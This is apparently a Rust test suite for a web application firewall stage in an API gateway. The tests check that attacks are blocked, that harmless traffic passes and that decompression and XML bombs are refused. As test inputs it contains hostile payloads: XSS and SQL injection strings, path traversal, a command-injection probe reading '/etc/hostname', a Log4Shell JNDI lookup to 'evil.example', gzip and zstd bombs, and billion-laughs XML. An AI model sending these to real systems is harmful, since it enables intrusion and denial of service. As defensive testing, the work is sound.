//! The `waf` stage end to end: attacks are refused wherever they are, and what is harmless passes as it came.

mod core_rule_set;

use std::io::Write as _;

use gatewright_tests::{Origin, RawClient, RawResponse, TestGateway, http};

use crate::setup::{listening, routed};
use crate::vectors::data;

fn gateway(origin: &Origin, keys: &str) -> TestGateway {
    TestGateway::start(&routed(
        &origin.url(),
        &format!(
            "[[route]]\nname = \"all\"\npath = \"/{{rest+}}\"\nchain = [{{ use = \"waf\"{keys} }}]\n\
             integration = {{ http = \"app\" }}\n"
        ),
    ))
}

/// One that answers by itself, for many requests.
fn answering(keys: &str) -> TestGateway {
    TestGateway::start(&listening(&format!(
        "[access_log]\noutput = \"off\"\n[[route]]\nname = \"all\"\npath = \"/{{rest*}}\"\n\
         chain = [{{ use = \"waf\"{keys} }}]\nintegration = {{ respond = 200 }}\n"
    )))
}

fn get(gateway: &TestGateway, target: &str, fields: &[(&str, &str)]) -> RawResponse {
    http(gateway.addr("public"), "GET", target, fields, b"")
}

fn post(gateway: &TestGateway, content_type: &str, body: &[u8]) -> RawResponse {
    let fields = [("content-type", content_type)];
    http(gateway.addr("public"), "POST", "/a", &fields, body)
}

#[test]
fn an_attack_is_refused_wherever_it_is_and_the_client_does_not_learn_why() {
    let origin = Origin::saying("ok");
    let gateway = gateway(&origin, "");
    let xss = "%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    for (target, fields) in [
        (format!("/a?q={xss}"), vec![]),
        ("/a?q=1%27%20or%20%271%27%3D%271".to_owned(), vec![]),
        ("/%3Cscript%3E".to_owned(), vec![]),
        ("/a".to_owned(), vec![("cookie", "a=b; c=<script>")]),
        ("/a".to_owned(), vec![("user-agent", "<script>alert(1)</script>")]),
        ("/a?q=%00".to_owned(), vec![]),
    ] {
        let refused = get(&gateway, &target, &fields);
        assert_eq!(
            (refused.status, refused.error()),
            (403, Some("WAF_FILTERED")),
            "{target}"
        );
        assert_eq!(refused.text(), r#"{"message":"Forbidden"}"#);
    }
    assert_eq!(origin.hits(), 0);
    assert_eq!(
        get(&gateway, "/a?q=o%27neill&r=a+b", &[("user-agent", "curl/8")]).status,
        200
    );
    let record = gateway.wait_for_records(1).remove(0);
    assert_eq!(record["waf"], "xss at query:q");
    assert_eq!(record["cause"], "waf: xss at query:q");
    assert_eq!(
        gateway.metric("gatewright_waf_findings_total{route=\"all\",rule=\"xss\",mode=\"block\"}"),
        4.0
    );
}

#[test]
fn in_detect_mode_everything_passes_as_it_came_and_is_noted() {
    let origin = Origin::saying("ok");
    let gateway = gateway(&origin, ", mode = \"detect\", body = \"16B\"");
    assert_eq!(get(&gateway, "/a?q=%3Cscript%3E", &[]).status, 200);
    let body = "comment=".to_owned() + &"long ".repeat(1000) + "<script>";
    assert_eq!(
        post(&gateway, "application/x-www-form-urlencoded", body.as_bytes()).status,
        200
    );
    let requests = origin.requests();
    assert_eq!(requests[0].target, "/a?q=%3Cscript%3E");
    assert_eq!(requests[1].body, body.as_bytes());
    assert_eq!(requests[1].headers["content-length"], body.len().to_string());
    let records = gateway.wait_for_records(2);
    assert_eq!(
        (&records[0]["waf"], &records[0]["outcome"]),
        (&"xss at query:q".into(), &"answered".into())
    );
    assert_eq!(records[1]["waf"], "body-size at body");
}

#[test]
fn a_session_is_not_locked_out_by_what_its_id_happens_to_look_like() {
    let origin = Origin::saying("ok");
    let gateway = gateway(&origin, "");
    // Each of them has a shape that libinjection takes for SQL.
    for id in [
        "7-DVTwd-8--avh_e8fyK9",
        "9-c--G5Y-rgaUzGGB52NX",
        "4g7Qf/0~`y'>S,#",
        "12345||12345||12345",
        "p*@jQ#fDwG@0y-5n",
    ] {
        let cookie = format!("sid={id}");
        let fields = [("cookie", cookie.as_str())];
        assert_eq!(get(&gateway, "/a", &fields).status, 200, "{id}");
    }
    let login = br#"{"user":"ann","password":"abc!@#","note":"TEST 0001 - (09/07/2025)"}"#;
    assert_eq!(post(&gateway, "application/json", login).status, 200);
}

#[test]
fn a_body_that_is_decoded_twice_or_declares_another_charset_hides_nothing() {
    let origin = Origin::saying("ok");
    let gateway = gateway(&origin, "");
    for attack in ["%3Cimg+src+onerror=alert(1)%3E", "%3Cimg%20src%20onerror=alert(1)%3E"] {
        let body = format!("{{\"a\":\"{attack}\"}}");
        assert_eq!(
            post(&gateway, "application/json", body.as_bytes()).status,
            403,
            "{attack}"
        );
    }
    let xml = b"<?xml version=\"1.0\" encoding=\"UTF-7\"?><a>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</a>";
    let refused = post(&gateway, "application/xml", xml);
    assert_eq!((refused.status, refused.error()), (415, Some("UNSUPPORTED_MEDIA_TYPE")));
    assert_eq!(origin.hits(), 0);
}

#[test]
fn bodies_are_inspected_up_to_a_size_and_forwarded_unchanged() {
    let origin = Origin::saying("ok");
    let gateway = gateway(&origin, ", body = \"1KiB\"");
    let attack = br#"{"user":{"name":"<script>alert(1)</script>"}}"#;
    let refused = post(&gateway, "application/json", attack);
    assert_eq!((refused.status, refused.error()), (403, Some("WAF_FILTERED")));
    let long = format!("{{\"a\":\"{}\"}}", "x".repeat(2000));
    let refused = post(&gateway, "application/json", long.as_bytes());
    assert_eq!((refused.status, refused.error()), (413, Some("REQUEST_TOO_LARGE")));
    assert_eq!(origin.hits(), 0);
    // What is no text is not looked into, and so may be as long as it likes.
    assert_eq!(post(&gateway, "application/octet-stream", long.as_bytes()).status, 200);
    let plain = br#"{ "user" : {"name":"Ada"} }"#;
    assert_eq!(post(&gateway, "application/json", plain).status, 200);
    assert_eq!(origin.requests()[1].body, plain);
}

#[test]
fn the_start_of_a_longer_body_is_inspected_where_the_configuration_says_so() {
    let origin = Origin::saying("ok");
    let gateway = gateway(&origin, ", body = \"1KiB\", larger = \"inspect-start\"");
    let form = "application/x-www-form-urlencoded";
    let late = "a=".to_owned() + &"x".repeat(200_000) + "&b=<script>";
    assert_eq!(post(&gateway, form, late.as_bytes()).status, 200);
    assert_eq!(origin.only_request().body, late.as_bytes());
    let early = "b=<script>&a=".to_owned() + &"x".repeat(200_000);
    assert_eq!(post(&gateway, form, early.as_bytes()).status, 403);
}

#[test]
fn exclusions_let_through_what_they_name_and_nothing_else() {
    let origin = Origin::saying("ok");
    let exclude = ", exclude = [{ rule = \"xss\", at = [\"query:html\", \"body:post.text\"] }, { rule = \"sqli\", path = \"/sql\" }]";
    let gateway = gateway(&origin, exclude);
    assert_eq!(get(&gateway, "/a?html=%3Cscript%3E", &[]).status, 200);
    assert_eq!(get(&gateway, "/a?q=%3Cscript%3E", &[]).status, 403);
    assert_eq!(get(&gateway, "/sql/run?q=1%20union%20select%202", &[]).status, 200);
    assert_eq!(get(&gateway, "/a?q=1%20union%20select%202", &[]).status, 403);
    let json = br#"{"post":{"text":"<script>"}}"#;
    assert_eq!(post(&gateway, "application/json", json).status, 200);
}

#[test]
fn c20_a_body_that_becomes_large_when_it_is_decoded_is_refused_early() {
    let origin = Origin::saying("ok");
    let gateway = gateway(&origin, "");
    let zeros = vec![b'0'; 64 << 20];
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gzip.write_all(&zeros).unwrap();
    let bombs = [
        ("gzip", gzip.finish().unwrap()),
        ("zstd", zstd::encode_all(zeros.as_slice(), 19).unwrap()),
    ];
    for (coding, bomb) in bombs {
        assert!(bomb.len() <= 64 << 10, "{coding}: {}", bomb.len());
        let fields = [("content-type", "text/plain"), ("content-encoding", coding)];
        let refused = http(gateway.addr("public"), "POST", "/a", &fields, &bomb);
        assert_eq!(
            (refused.status, refused.error()),
            (413, Some("REQUEST_TOO_LARGE")),
            "{coding}"
        );
    }
    for (coding, body, status) in [
        ("gzip", &b"not gzip"[..], 400),
        ("compress", b"x", 415),
        ("gzip, br", b"x", 415),
        ("identity", b"x", 200),
    ] {
        let fields = [("content-type", "text/plain"), ("content-encoding", coding)];
        let response = http(gateway.addr("public"), "POST", "/a", &fields, body);
        assert_eq!(response.status, status, "{coding}");
    }
    // What is decoded is for inspection only.
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gzip.write_all(b"q=<script>").unwrap();
    let fields = [
        ("content-type", "application/x-www-form-urlencoded"),
        ("content-encoding", "gzip"),
    ];
    let refused = http(gateway.addr("public"), "POST", "/a", &fields, &gzip.finish().unwrap());
    assert_eq!(refused.status, 403);
    assert_eq!(origin.only_request().body, b"x");
}

#[test]
fn c22_forms_of_many_parts_or_without_a_boundary_and_xml_with_entities_are_refused() {
    let origin = Origin::saying("ok");
    let gateway = gateway(&origin, ", body = \"16MiB\"");
    let parts = "--x\r\ncontent-disposition: form-data; name=a\r\n\r\nb\r\n".repeat(100_000) + "--x--\r\n";
    let many = post(&gateway, "multipart/form-data; boundary=x", parts.as_bytes());
    assert_eq!((many.status, many.error()), (413, Some("REQUEST_TOO_LARGE")));
    for content_type in [
        "multipart/form-data",
        "multipart/form-data; boundary=y",
        "multipart/form-data; boundary=",
    ] {
        let refused = post(&gateway, content_type, b"--x\r\n\r\n--x--\r\n");
        assert_eq!(
            (refused.status, refused.error()),
            (400, Some("BAD_REQUEST_BODY")),
            "{content_type}"
        );
    }
    let entities = (1..10).map(|n| format!("<!ENTITY e{n} \"{}\">", format!("&e{};", n - 1).repeat(10)));
    let laughs = format!(
        "<!DOCTYPE a [<!ENTITY e0 \"ha\">{}]><a>&e9;</a>",
        entities.collect::<String>()
    );
    let refused = post(&gateway, "application/xml", laughs.as_bytes());
    assert_eq!((refused.status, refused.error()), (400, Some("BAD_REQUEST_BODY")));
    assert_eq!(origin.hits(), 0);
}

#[test]
fn the_gateway_has_rules_of_its_own_and_says_which_one_matched_with_its_points() {
    let origin = Origin::saying("ok");
    let gateway = gateway(
        &origin,
        ", rules = [\"builtin\"], exclude = [{ rule = \"lfi\", id = 1101, at = [\"query:up\"] }]",
    );
    for (target, fields) in [
        ("/a?f=../../x", vec![]),
        ("/a?q=%3Bcat%20/etc/hostname", vec![]),
        ("/.git/config", vec![]),
        ("/a", vec![("user-agent", "sqlmap/1.7")]),
        ("/a", vec![("x-api", "${jndi:ldap://evil.example/a}")]),
        ("/a?q=%3C?php%20echo", vec![]),
        ("/a?u=php://input", vec![]),
    ] {
        let refused = get(&gateway, target, &fields);
        assert_eq!(
            (refused.status, refused.error()),
            (403, Some("WAF_FILTERED")),
            "{target}"
        );
    }
    assert_eq!(
        post(&gateway, "application/json", br#"{"a":{"b":"../../x"}}"#).status,
        403
    );
    assert_eq!(origin.hits(), 0);
    assert_eq!(get(&gateway, "/a?up=../../x&q=hello", &[]).status, 200);
    let records = gateway.wait_for_records(9);
    assert_eq!(records[0]["waf"], "lfi at query:f (1101 +5)");
    assert_eq!(records[3]["waf"], "scanner at header:user-agent (1601 +5)");
    assert_eq!(records[7]["waf"], "lfi at body:a.b (1101 +5)");
    assert_eq!(
        gateway.metric("gatewright_waf_findings_total{route=\"all\",rule=\"scanner\",mode=\"block\"}"),
        1.0
    );
}

#[test]
fn rules_are_read_from_files_and_folders_and_decide_by_their_points() {
    let origin = Origin::saying("ok");
    let folder = tempfile::tempdir().unwrap();
    let rules = "SecRule ARGS \"@contains half\" \"id:7,phase:2,pass,setvar:'tx.anomaly_score_pl1=+3'\"\n\
                 SecRule TX:anomaly_score_pl1 \"@ge 5\" \"id:8,phase:2,deny\"\n";
    std::fs::write(folder.path().join("a.conf"), rules).unwrap();
    let gateway = gateway(&origin, &format!(", rules = [{:?}]", folder.path()));
    assert_eq!(get(&gateway, "/a?q=half&f=../../x", &[]).status, 200);
    assert_eq!(get(&gateway, "/a?q=half&r=half", &[]).status, 403);
    let records = gateway.wait_for_records(2);
    assert_eq!(records[0]["waf"], "passed: rules at query:q (7 +3)");
    assert_eq!(records[1]["waf"], "rules at query:q (7 +6)");
}

/// A line of the collections as a value of a query: it is percent-encoded, more or less.
fn in_query(line: &str) -> String {
    let is_escape = |at: usize| {
        let digits = line.as_bytes().get(at + 1..at + 3);
        digits.is_some_and(|digits| digits.iter().all(u8::is_ascii_hexdigit))
    };
    let bytes = line.bytes().enumerate().map(|(at, byte)| match byte {
        b'%' if is_escape(at) => "%".to_owned(),
        byte if byte == b'+' || byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
        byte => format!("%{byte:02X}"),
    });
    bytes.collect()
}

/// How many lines are refused, and of how many.
fn refused(client: &mut RawClient, text: &str) -> (usize, usize) {
    let lines: Vec<_> = text.lines().filter(|line| !line.is_empty()).collect();
    let refused = lines.iter().filter(|line| {
        match client
            .request("GET", &format!("/a?q={}", in_query(line)), &[], b"")
            .status
        {
            200 => false,
            403 => true,
            other => panic!("{other} for {line}"),
        }
    });
    (refused.count(), lines.len())
}

#[test]
fn attacks_that_others_collected_are_blocked_and_hardly_anything_harmless_is() {
    let Some(folder) = data("libinjection") else { return };
    let gateway = answering("");
    let mut client = RawClient::connect(gateway.addr("public"));
    let mut share = |file: &str| {
        let text = String::from_utf8_lossy(&std::fs::read(folder.join(file)).unwrap()).into_owned();
        let (refused, all) = refused(&mut client, &text);
        println!("{file}: {refused} of {all}");
        refused as f64 / all as f64
    };
    let (sqli, xss, benign) = (share("sqli.txt"), share("xss.txt"), share("benign.txt"));
    assert!(sqli >= 0.99, "{sqli}");
    assert!(xss >= 0.98, "{xss}");
    assert!(benign <= 0.02, "{benign}");
}
